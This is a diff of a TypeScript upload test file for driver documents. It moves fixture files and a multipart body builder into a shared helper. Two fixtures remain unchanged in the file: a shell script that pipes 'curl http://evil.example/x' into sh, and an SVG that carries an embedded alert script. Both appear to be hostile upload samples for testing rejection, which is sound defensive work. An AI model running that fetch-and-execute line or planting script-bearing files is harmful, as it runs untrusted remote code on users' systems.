@@ -12,6 +12,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { insertDocumentType, insertDriver } from '../../../test/factories/drivers.ts';
 import { createTestContext, type TestContext } from '../../../test/harness.ts';
 import { addUser, call, createTenant, type Headers, type Tenant } from '../../../test/kit.ts';
+import { JPEG, multipart, type Part, PDF, PNG } from '../../../test/multipart.ts';
 import { auditLog, driverDocuments, drivers } from '../../db/schema/index.ts';
 import { dayAt } from '../../lib/dates.ts';
 
@@ -29,39 +30,8 @@ afterAll(async () => {
   await rm(root, { recursive: true, force: true });
 });
 
-/* Tiny files that are what they say (the first bytes are what counts). */
-const PDF = Buffer.from('%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n');
-const JPEG = Buffer.from([
-  0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0xff, 0xd9,
-]);
-const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
 const SHELL = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
 const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
-
-type Part = { name: string; value: string } | { name: string; filename?: string; contentType?: string; data: Buffer };
-
-/** A multipart/form-data body written by hand (so names and bytes are exactly what a test says). */
-function multipart(parts: Part[]): { payload: Buffer; headers: Headers } {
-  const boundary = `----ps-test-${randomUUID()}`;
-  const chunks: Buffer[] = [];
-  for (const part of parts) {
-    chunks.push(Buffer.from(`--${boundary}\r\n`));
-    if ('data' in part) {
-      const filename = part.filename === undefined ? '' : `; filename="${part.filename}"`;
-      chunks.push(
-        Buffer.from(
-          `Content-Disposition: form-data; name="${part.name}"${filename}\r\nContent-Type: ${part.contentType ?? 'application/octet-stream'}\r\n\r\n`,
-        ),
-        part.data,
-        Buffer.from('\r\n'),
-      );
-    } else {
-      chunks.push(Buffer.from(`Content-Disposition: form-data; name="${part.name}"\r\n\r\n${part.value}\r\n`));
-    }
-  }
-  chunks.push(Buffer.from(`--${boundary}--\r\n`));
-  return { payload: Buffer.concat(chunks), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
-}
 
 /** The same form as a browser's FormData serialises it (Node's own encoder). */
 async function formData(fields: Record<string, string>, file: { data: Buffer; name: string; type: string }) {
